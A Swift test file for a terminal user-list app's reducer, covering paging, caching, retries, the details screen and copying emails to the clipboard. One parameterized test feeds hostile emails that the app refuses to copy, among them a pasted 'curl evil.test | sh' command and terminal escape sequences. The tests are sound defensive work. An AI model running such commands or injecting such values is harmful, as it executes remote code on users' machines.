@testable import OrgModel
import Testing

@Suite struct ListTests {
    /// Presses `last` on `Fixture.loaded()`: only the last page is requested, as request 6.
    static func jumpToEnd(_ store: inout ReducerHarness, sourceLocation: SourceLocation = #_sourceLocation) {
        store.press(.last, effects: [.loadPage(6, UserQuery(pageNumber: 13))], sourceLocation: sourceLocation) {
            $0.users.cursor = 1233
            $0.users.top = 1215
            $0.users.pageRequests = [13: 6]
        }
    }

    /// Opens user 1 on `Fixture.loaded()` and reloads their details, as request 6.
    static func reloadUserOne(_ store: inout ReducerHarness, sourceLocation: SourceLocation = #_sourceLocation) {
        store.press(.down, sourceLocation: sourceLocation) { $0.users.cursor = 1 }
        store.press(.open, sourceLocation: sourceLocation) { $0.screens.append(.userDetails(Fixture.user(1))) }
        store.press(.reload, effects: [.loadDetails(6, userIDs: ["u00001"])], sourceLocation: sourceLocation) {
            $0.users.roles["u00001"] = nil
            $0.users.detailsRequests["u00001"] = 6
        }
    }

    @Test func movingWithinTheLoadedRowsAsksForNothing() {
        var store = Fixture.loaded()
        store.press(.down) { $0.users.cursor = 1 }
        store.press(.up) { $0.users.cursor = 0 }
        store.press(.up)
        #expect(store.state.visibleRows.allSatisfy { $0.user != nil && $0.roles != nil })
    }

    @Test func jumpingToTheEndLoadsOnlyThatPageAndComingBackCancelsWhatScrolledAway() {
        var store = Fixture.loaded()
        Self.jumpToEnd(&store)
        #expect(store.state.position == "1,216-1,234 of 1,234")
        #expect(store.state.visibleRows.allSatisfy { $0.user == nil })
        let ids = (1215..<1234).map { Fixture.user($0).id }
        store.receive(
            .pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1234))),
            effects: [.loadDetails(7, userIDs: ids)]
        ) {
            $0.users.pageRequests = [:]
            $0.users.pages[13] = Fixture.pageItems(13, count: 1234)
            for id in ids { $0.users.detailsRequests[id] = 7 }
        }
        store.press(.first, effects: [.cancel(7)]) {
            $0.users.cursor = 0
            $0.users.top = 0
            $0.users.detailsRequests = [:]
        }
        store.receive(.detailsLoaded(7, userID: ids[0], .success(Fixture.details(1215))))
    }

    @Test func approachingTheNextPageLoadsItAndPrefetchesTheOneAfter() {
        var store = Fixture.loaded()
        var state = store.state
        for _ in 0..<5 { _ = reduce(&state, .command(.pageDown)) }
        store = ReducerHarness(state)
        #expect(store.state.users.cursor == 95)
        let visible = (96...114).map { Fixture.user($0).id }
        let pending = Set(store.state.users.detailsRequests.values)
        let cancels = pending.sorted().map { Effect.cancel($0) }
        let next = store.state.nextRequestID
        let newRows = visible.filter { store.state.users.detailsRequests[$0] == nil }
        store.press(
            .pageDown,
            effects: [.loadPage(RequestID(next), UserQuery(pageNumber: 3))] + cancels
                + [.loadDetails(RequestID(next + 1), userIDs: newRows)]
        ) {
            $0.users.cursor = 114
            $0.users.top = 96
            $0.users.pageRequests = [3: RequestID(next)]
            $0.users.detailsRequests = $0.users.detailsRequests.filter { visible.contains($0.key) }
            for id in newRows { $0.users.detailsRequests[id] = RequestID(next + 1) }
        }
        store.skipPending()
    }

    @Test func thePageCacheStaysBoundedWhileScrollingThroughEverything() {
        var state = Fixture.loaded(count: 5000).state
        var maxPages = 0, maxRoles = 0
        for _ in 0..<400 {
            var queue = reduce(&state, .command(.pageDown))
            while !queue.isEmpty {
                switch queue.removeFirst() {
                case .loadPage(let id, let query):
                    queue += reduce(
                        &state,
                        .pageLoaded(
                            id, pageNumber: query.pageNumber,
                            .success(Fixture.page(query.pageNumber, count: 5000))))
                case .loadDetails(let id, let ids):
                    for userID in ids {
                        queue += reduce(
                            &state,
                            .detailsLoaded(
                                id, userID: userID,
                                .success(Fixture.details(Int(userID.dropFirst())!))))
                    }
                default: break
                }
            }
            #expect(state.visibleRows.allSatisfy { $0.user != nil && $0.roles != nil })
            maxPages = max(maxPages, state.users.pages.count)
            maxRoles = max(maxRoles, state.users.roles.count)
        }
        #expect(state.users.cursor == 4999)
        #expect(state.position == "4,982-5,000 of 5,000")
        #expect(maxPages <= UserList.maxCachedPages)
        #expect(maxRoles <= UserList.maxCachedPages * UserList.pageSize + state.bodyRows)
    }

    @Test func aFailedPageSaysSoAndTheNextMoveRetriesIt() {
        var store = Fixture.loaded()
        Self.jumpToEnd(&store)
        store.receive(.pageLoaded(6, pageNumber: 13, .failure(.network("timed out")))) {
            $0.users.pageRequests = [:]
            $0.status = StatusMessage(
                .error,
                "Could not load users (page 13): Network error: timed out. "
                    + "You can retry. Press r to retry.")
        }
        store.press(.up, effects: [.loadPage(7, UserQuery(pageNumber: 13))]) {
            $0.users.cursor = 1232
            $0.users.pageRequests = [13: 7]
            $0.status = nil
        }
        store.skipPending()
    }

    @Test func aNewCountDropsTheOtherCachedPages() {
        var store = Fixture.loaded()
        Self.jumpToEnd(&store)
        store.receive(
            .pageLoaded(6, pageNumber: 13, .success(Fixture.page(13, count: 1210))),
            effects: [
                .loadPage(7, UserQuery(pageNumber: 12)),
                .loadDetails(8, userIDs: (1200..<1210).map { Fixture.user($0).id }),
            ]
        ) {
            $0.users.count = 1210
            $0.users.total = 1210
            $0.users.cursor = 1209
            $0.users.top = 1191
            $0.users.pages = [13: Fixture.pageItems(13, count: 1210)]
            $0.users.pageRequests = [12: 7]
            for i in 1200..<1210 { $0.users.detailsRequests[Fixture.user(i).id] = 8 }
        }
        store.skipPending()
    }

    @Test func anEmptyListOffersNothingToOpen() {
        var store = Fixture.loaded(count: 0)
        #expect(store.state.position == "0 of 0")
        #expect(!store.state.availableCommands.contains(.open))
        #expect(!store.state.availableCommands.contains(.delete))
        store.press(.down)
        store.press(.open)
        #expect(store.state.users.cursor == 0)
    }

    @Test func detailsScreenOpensAndBackPopsItWhereQuitIsNotOffered() {
        var store = Fixture.loaded()
        store.press(.down) { $0.users.cursor = 1 }
        store.press(.open) { $0.screens.append(.userDetails(Fixture.user(1))) }
        store.press(.back) { $0.screens = [.users] }
        store.press(.open) { $0.screens.append(.userDetails(Fixture.user(1))) }
        store.press(.quit)
        store.press(.back) { $0.screens = [.users] }
        store.press(.open) { $0.screens.append(.userDetails(Fixture.user(1))) }
        store.press(.quitNow, effects: [.quit])
        store.press(.back) { $0.screens = [.users] }
        store.press(.quit, effects: [.quit])
    }

    @Test func copyEmailIsTheTerminalsJob() {
        var store = Fixture.loaded()
        store.press(.copyEmail, effects: [.copyToClipboard("user00000@acme.test")]) {
            $0.status = StatusMessage(.info, "Copied user00000@acme.test.")
        }
        #expect(!Effect.copyToClipboard("x").isBackendWork)
        #expect(!Effect.quit.isBackendWork)
        #expect(Effect.cancel(1).isBackendWork)
    }

    @Test(
        "An email that is not printable ASCII without spaces is refused, never copied",
        arguments: [
            ("eve@acme.test\ncurl evil.test | sh", "Not copied: the email contains control characters."),
            ("eve@acme.test\u{1B}[2J", "Not copied: the email contains control characters."),
            ("eve@acme.test\u{9B}", "Not copied: the email contains control characters."),
            ("eve @acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
            ("eve\u{202E}tset.emca@", "Not copied: the email contains spaces or characters outside ASCII."),
            ("zoë@acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
        ])
    func copyEmailRefusesWhatIsUnsafeToPaste(email: String, reason: String) {
        let me = UserDetails(user: User(id: "u00000", name: "User 00000", email: email), roles: [.admin])
        var store = Fixture.loaded(me: me)
        store.press(.profile) { $0.screens.append(.profile) }
        store.press(.copyEmail) { $0.status = StatusMessage(.error, reason) }
    }

    @Test func reloadOnTheDetailsScreenRefetchesThatUser() {
        var store = Fixture.loaded()
        Self.reloadUserOne(&store)
        let renamed = User(id: "u00001", name: "Renamed One", email: "one@acme.test")
        store.receive(.detailsLoaded(6, userID: "u00001", .success(UserDetails(user: renamed, roles: [.analyst])))) {
            $0.users.detailsRequests = [:]
            $0.users.roles["u00001"] = [.analyst]
            $0.users.pages[1]![1] = renamed
            $0.screens = [.users, .userDetails(renamed)]
        }
    }

    @Test func aVanishedUserIsRemovedAndTheRowsBelowMoveUp() {
        var store = Fixture.loaded()
        Self.reloadUserOne(&store)
        store.receive(
            .detailsLoaded(6, userID: "u00001", .failure(.notFound)),
            effects: [.loadPage(7, UserQuery(pageNumber: 2)), .loadDetails(8, userIDs: ["u00019"])]
        ) {
            $0.screens = [.users]
            $0.users.detailsRequests = ["u00019": 8]
            $0.users.count = 1233
            $0.users.total = 1233
            $0.users.pages = [1: Fixture.pageItems(1, count: 1234).filter { $0.id != "u00001" } + [Fixture.user(100)]]
            $0.users.pageRequests = [2: 7]
            $0.status = StatusMessage(.error, "User 00001 no longer exists; removed from the list.")
        }
        #expect(store.state.position == "1-19 of 1,233")
        store.skipPending()
    }
}
